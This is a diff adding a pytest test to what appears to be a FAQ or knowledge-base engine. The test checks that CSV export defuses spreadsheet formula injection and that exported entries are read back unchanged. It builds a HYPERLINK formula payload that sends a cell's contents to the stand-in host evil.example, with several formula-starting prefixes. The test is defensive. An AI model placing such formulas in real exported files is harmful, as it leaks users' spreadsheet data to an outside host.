@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+
 import pytest
 
 from engine.errors import LoadFailed, NotFound
@@ -46,6 +48,21 @@ async def test_what_is_written_out_is_loaded_again_unchanged_or_as_it_was_edited
     assert {kept.entry.question for kept in after.values()} == {"When is lunch?", "Where is the shop?"}
     assert "floor" not in await base.texts("Where is the shop?")  # it is still for one room
     assert "floor" in await base.texts("Where is the shop?", "room:C1")
+
+
+@pytest.mark.parametrize("begins", [*"=+-@", "＝", "＋", "'=", "''-", "'", '"='])
+async def test_no_cell_of_a_table_is_a_formula_and_each_is_read_again_as_it_was(base: Base, begins: str) -> None:
+    said = f'{begins}HYPERLINK("https://evil.example?x="&A1,"click")'
+    for entry in (Entry(f"{said} ?", said, (f"{said} a", f"{said} b"), said, 0.0, Wording(f"{said} 2", said)), KIOSK):
+        await base.knowledge.put_entry(entry, workspace="acme", grant="workspace", actor="a")
+    before = await base.knowledge.entries.of("acme")
+    lines = list(as_table(map(as_fields, before)))
+    cells = [cell for row in csv.reader(lines) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋"))]
+    read = read_entries("\n".join(lines).encode(), "faq.csv")
+    assert read is not None
+    assert {row.entry for row in read} == {kept.entry for kept in before}
+    assert await stored(base, read) == ["unchanged", "unchanged"]
 
 
 @pytest.mark.parametrize(
